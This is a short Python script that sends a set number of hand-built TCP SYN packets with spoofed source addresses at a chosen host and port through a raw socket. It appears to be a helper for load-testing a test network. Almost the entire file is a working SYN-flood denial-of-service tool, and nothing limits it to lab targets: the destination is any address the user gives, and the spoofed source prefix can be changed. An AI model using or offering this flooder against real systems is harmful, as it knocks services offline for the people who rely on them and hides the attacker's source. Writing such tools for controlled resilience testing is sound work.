#!/usr/bin/python3
"""Send a fixed number of TCP SYNs at one address, as fast as Python can (stdlib only; root).

    flood.py DST PORT --count N [--sources PREFIX24]

Sources are spoofed from a documentation /24 (default 203.0.113.0/24, hosts .1 to .254, in
turn) with source ports counting up, through a raw socket (IP_HDRINCL): the test network's
own flood at the box's address. Prints ONE JSON line: {"sent": N, "seconds": T}.
"""
import argparse
import json
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    p = argparse.ArgumentParser()
    p.add_argument("dst")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--sources", default="203.0.113.0")
    a = p.parse_args()
    base = a.sources.rsplit(".", 1)[0]
    frames = [syn(f"{base}.{1 + i % 254}", a.dst, 1024 + i % 60000, a.port) for i in range(min(a.count, 60000))]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    sent = 0
    for i in range(a.count):
        try:
            s.sendto(frames[i % len(frames)], (a.dst, 0))
            sent += 1
        except (BlockingIOError, OSError):
            pass
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
